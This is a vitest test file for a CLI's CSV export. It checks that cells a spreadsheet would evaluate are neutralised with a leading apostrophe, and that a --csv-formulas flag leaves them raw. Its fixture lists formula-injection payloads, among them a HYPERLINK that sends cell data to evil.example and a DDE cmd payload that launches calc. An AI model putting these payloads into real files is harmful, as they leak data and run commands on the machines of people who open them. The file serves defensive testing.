// CSV that a spreadsheet opens without running anything: cells a spreadsheet
// would evaluate get a leading ' (OWASP's advice), real numbers stay numbers,
// and --csv-formulas writes the cells as the server sent them.
import { type RunningSimulator, startSimulator } from '@hl-orders/mock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../support/csv.js';
import { order } from '../support/orders.js';
import { run } from '../support/run-cli.js';

const TOKEN = 'cli-csv-formulas-token-3f9e';

/** contactName values a spreadsheet would evaluate as a formula. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1,"x"', // needs quoting too: the ' goes inside the quotes
  ' =1+1',
];
/** contactName values that only look like it: they must stay exactly as they are. */
const HARMLESS = ['a=b', 'O+Brien', 'user@example.com', '5-3', 'Bond, James', '-5', '-1.5', '+7'];

const orders = [
  ...FORMULAS.map((contactName, i) => order(i, { contactName })),
  ...HARMLESS.map((contactName, i) => order(100 + i, { contactName })),
  order(200, { contactName: 'negative numbers', amount: -5, discount: -1.5, couponCode: '-5' }),
];

let sim: RunningSimulator;
let env: Record<string, string>;
beforeAll(async () => {
  sim = await startSimulator({ token: TOKEN, rateLimit: false, orders });
  env = { HIGHLEVEL_TOKEN: TOKEN, HIGHLEVEL_LOCATION_ID: sim.locationId, HIGHLEVEL_BASE_URL: sim.url };
});
afterAll(async () => {
  await sim?.stop();
});

/** The parsed CSV as one record per order id. */
function recordsById(csv: string): Map<string, Record<string, string>> {
  const [header, ...rows] = parseCsv(csv);
  expect(header).toBeDefined();
  const records = rows.map((row) => {
    expect(row).toHaveLength(header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, row[i] ?? '']));
  });
  return new Map(records.map((r) => [r._id!, r]));
}

function expectNeutralised(csv: string) {
  const byId = recordsById(csv);
  expect(byId.size).toBe(orders.length);
  for (const o of orders) {
    const record = byId.get(o._id)!;
    const name = o.contactName!;
    expect(record.contactName, JSON.stringify(name)).toBe(FORMULAS.includes(name) ? `'${name}` : name);
  }
  const negative = byId.get(order(200)._id)!;
  expect([negative.amount, negative.discount, negative.couponCode]).toEqual(['-5', '-1.5', '-5']);
  // Nothing outside the cells' content either: every cell that is not a number starts harmlessly.
  for (const record of byId.values()) {
    for (const [column, cell] of Object.entries(record)) {
      if (/^[-+]?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
}

describe('cells a spreadsheet would evaluate are neutralised by default', () => {
  it('orders export --format csv', async () => {
    const result = await run(['orders', 'export', '--format', 'csv'], env);
    expect(result.code, result.stderr).toBe(0);
    expectNeutralised(result.stdout);
  });

  it('orders list --format csv', async () => {
    const result = await run(['orders', 'list', '--format', 'csv', '--limit', '100'], env);
    expect(result.code, result.stderr).toBe(0);
    expectNeutralised(result.stdout);
  });
});

describe('--csv-formulas writes the cells unchanged', () => {
  it('orders list --csv-formulas', async () => {
    const result = await run(['orders', 'list', '--format', 'csv', '--limit', '100', '--csv-formulas'], env);
    expect(result.code, result.stderr).toBe(0);
    const byId = recordsById(result.stdout);
    for (const o of orders) expect(byId.get(o._id)?.contactName).toBe(o.contactName);
  });

  it('is documented in --help of list and export', async () => {
    for (const command of ['list', 'export']) {
      const help = await run(['orders', command, '--help']);
      expect(help.stdout).toMatch(
        /--csv-formulas\s+write\s+cells\s+that\s+a\s+spreadsheet\s+would\s+evaluate\s+as\s+formulas/,
      );
    }
  });
});
